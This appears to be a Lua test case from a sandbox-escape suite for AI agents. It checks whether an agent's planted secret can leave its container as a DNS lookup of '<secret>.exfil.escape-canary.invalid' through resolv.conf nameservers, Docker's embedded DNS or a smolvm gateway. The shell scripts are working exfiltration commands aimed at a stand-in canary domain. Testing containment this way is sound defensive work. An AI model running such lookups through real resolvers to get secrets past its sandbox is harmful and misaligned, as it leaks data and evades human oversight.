-- attack 4: DNS exfiltration: <planted secret>.<canary domain> looked up
-- through the resolvers the agent finds (its resolv.conf, Docker's embedded
-- DNS at 127.0.0.11), whose upstream the suite sets to its canary resolver
return {
  id = 4,
  name = "DNS exfiltration through the agent's own resolvers (resolv.conf, Docker's embedded 127.0.0.11)",
  layer = "network",
  stops = "internal network + seal: Docker 20.10's embedded DNS forwards a name it does not know from the "
    .. "agent's own network namespace, which has no route but to its bundle",
  -- the outside check: the canary resolver, the agent's upstream DNS (the
  -- suite's launch option table; $HOST is its address)
  targets = { "resolver" },
  -- A resolv.conf nameserver that is neither loopback (Docker's embedded
  -- DNS, the agent's own namespace) nor the canary is reported and not
  -- queried: it would be a real resolver, and every query goes to a canary.
  -- An answer that only a resolver which processed the name gives
  -- (NXDOMAIN, an address) is REACHED; Docker's embedded DNS, when it
  -- cannot forward, gives none.
  script = [=[
name="$CORK_ESCAPE_AGENT_SECRET.exfil.escape-canary.invalid"
[ -n "$CORK_ESCAPE_AGENT_SECRET" ] || echo "no planted secret in the env"
for ns in $( (sed -n 's/^[[:space:]]*nameserver[[:space:]]*\([^[:space:]]*\).*/\1/p' /etc/resolv.conf 2>/dev/null
              echo 127.0.0.11) | sort -u); do
  case $ns in
    127.*|"$HOST") ;;
    *) echo "resolver $ns (from resolv.conf): not a canary of the suite's, not queried"; continue;;
  esac
  ( out=$(timeout 5 nslookup -timeout=2 -retry=1 "$name" "$ns" 2>&1 | grep -v -F "$CORK_ESCAPE_AGENT_SECRET" | tr '\n' ' ')
    echo "resolver $ns: $out"
    case $out in *NXDOMAIN*|*"Non-authoritative answer: Name:"*) echo "REACHED resolver $ns answered the exfiltration name";; esac ) &
done
wait
]=],
  -- Under smolvm, UDP port 53 to any address goes to the gateway's DNS relay,
  -- which forwards what its filter lets through to the host's resolver: the
  -- canary resolver stands there (the stand-in's FAKE_SMOLVM_RESOLVER). The
  -- lookups: resolv.conf's nameserver (the gateway), 100.96.0.1, and the
  -- canary's own address (off the allowlist). The secret is the agent's own,
  -- from its secrets file (not on the exec's env in a VM).
  smolmachines = {
    stops = "smolvm's gateway answers DNS itself: with --allow-host <alias> no name is allowed, so nothing is "
      .. "forwarded (NXDOMAIN); port 53 to any address goes to that relay",
    sanity = { "agent_secret" },
    script = [=[
s=$(sed -n 's/^[^=]*CORK_ESCAPE_AGENT_SECRET=//p' "$HOME/.cork/env" 2>/dev/null | head -n 1 | tr -cd 'A-Za-z0-9-')
[ -n "$s" ] || s=$(printf '%s' "${CORK_ESCAPE_AGENT_SECRET:-}" | tr -cd 'A-Za-z0-9-')
name="$s.exfil.escape-canary.invalid"
echo "the name: $name"
seen=" "
for r in $(sed -n 's/^nameserver[[:space:]]*//p' /etc/resolv.conf) "$GATEWAY" "$HOST"; do
  case $seen in *" $r "*) continue;; esac
  seen="$seen$r "
  out=$(timeout 5 nslookup "$name" "$r" 2>&1 | tr '\n' ' ')
  echo "nslookup via $r: $out"
  case $out in *"Name:"*"Address"*) echo "REACHED an answer for the secret's name via $r";; esac
done
]=],
  },
}
